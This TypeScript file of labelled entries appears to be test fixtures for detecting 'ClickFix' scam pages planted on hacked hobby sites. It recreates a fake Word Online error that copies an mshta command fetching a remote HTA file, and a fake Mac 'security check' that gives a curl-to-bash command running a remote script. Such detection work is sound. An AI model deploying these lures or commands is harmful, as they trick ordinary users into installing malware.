/**
 * yi- ClickFix pages found on hacked community, parish and hobby sites.
 */
import { type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { articleCss, doc } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-clickfix-u3a-word-document-fix',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.harrogate-u3a-history.org.uk/meetings/spring-programme',
  body: doc({
    title: 'Spring Programme – Harrogate U3A Local History Group',
    css: articleCss('#003d73') + `
.ow{position:fixed;inset:0;background:rgba(30,30,30,.6);display:flex;align-items:center;justify-content:center;font-family:"Segoe UI",Arial,sans-serif}
.ow .d{background:#fff;width:520px;border-top:5px solid #2b579a;padding:24px}.ow .w{color:#2b579a;font-weight:700;font-size:20px}
.ow button{background:#2b579a;color:#fff;border:0;padding:10px 22px;font-size:15px;margin-top:12px}.ow ol{line-height:1.8}`,
    body: `<header class="site-header"><a class="brand" href="/">Harrogate U3A · Local History Group</a><nav><a href="/">Home</a><a href="/meetings/">Meetings</a><a href="/outings/">Outings</a></nav></header>
<main><h1>Spring Programme</h1><p>Meetings are held on the second Tuesday of the month at 2pm in the Methodist Church Hall. Tea and biscuits 50p.</p>
<p>The full programme is available as a Word document below.</p></main>
<div class="ow" id="ow"><div class="d"><div class="w">W&nbsp; Word Online</div>
<p><b>The document “Spring_Programme_2025.docx” could not be displayed.</b></p><p>Error 0x80070643: the “Word Online” extension is not installed in your browser. To view the document correctly, you need to install the extension manually.</p>
<button id="fx">How to fix</button>
<ol id="st" style="display:none"><li>Click the <b>Start</b> button and type <b>PowerShell</b>, then open it</li><li>Right-click inside the blue window to paste the fix</li><li>Press <b>Enter</b> and refresh this page</li></ol></div></div>
<script src="https://cdn-jsdelivr.cloud-fonts.net/npm/wordfix@1.0.2/dist/fix.min.js"></script>`,
  }),
  routes: {
    'cdn-jsdelivr.cloud-fonts.net/npm/wordfix@1.0.2/dist/fix.min.js': jsRoute(`(function(){var p=["mshta","https://docs-viewer.office-fix.live/ext/install.hta"];var c=p.join(" ")+"  # Word Online extension installer";
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(c).then(function(){document.getElementById('st').style.display='block';document.getElementById('fx').textContent='Copied! Follow the steps below'})};})();`),
  },
},
{
  id: 'yi-clickfix-knitting-circle-mac-terminal',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.purlsandplains-knitters.co.nz/patterns/baby-blanket-free-pdf',
  body: doc({
    title: 'Free Pattern: Garter Stitch Baby Blanket – Purls & Plains Knitting Circle, Timaru',
    lang: 'en-NZ',
    css: articleCss('#ad1457') + `
#gate{position:fixed;inset:0;background:#f7f7f7;display:flex;align-items:center;justify-content:center;font-family:-apple-system,Helvetica,Arial,sans-serif;z-index:9}
#gate .c{background:#fff;padding:30px;width:460px;border-radius:10px;box-shadow:0 2px 10px #0002}#gate code{display:block;background:#111;color:#8f8;padding:10px;font-size:12px;word-break:break-all;margin:10px 0}
#gate button{background:#ad1457;color:#fff;border:0;padding:10px 20px;border-radius:6px}`,
    body: `<header class="site-header"><a class="brand" href="/">Purls &amp; Plains Knitting Circle</a><nav><a href="/">Home</a><a href="/patterns/">Free Patterns</a><a href="/meetups/">Meet-ups</a></nav></header>
<main><h1>Garter Stitch Baby Blanket</h1><p>An easy first project for new grandmothers! You will need 4 balls of 8-ply merino and 5mm needles. Cast on 120 stitches…</p></main>
<div id="gate"><div class="c"><h2>Security check before download</h2><p>To protect our members from bots, Mac users must verify their device before downloading free patterns.</p>
<ol><li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return</li><li>Click “Copy code” below and paste it into Terminal with <b>⌘ + V</b></li><li>Press Return and enter your Mac password if asked</li></ol>
<code id="c">/bin/bash -c "$(curl -fsSL https://pattern-verify.cdnsafe.app/mac/verify.sh)"</code>
<button id="cp">Copy code</button></div></div>
<script>document.getElementById('cp').addEventListener('click',function(){navigator.clipboard.writeText(document.getElementById('c').textContent);this.textContent='Copied ✓'});</script>`,
  }),
},
];
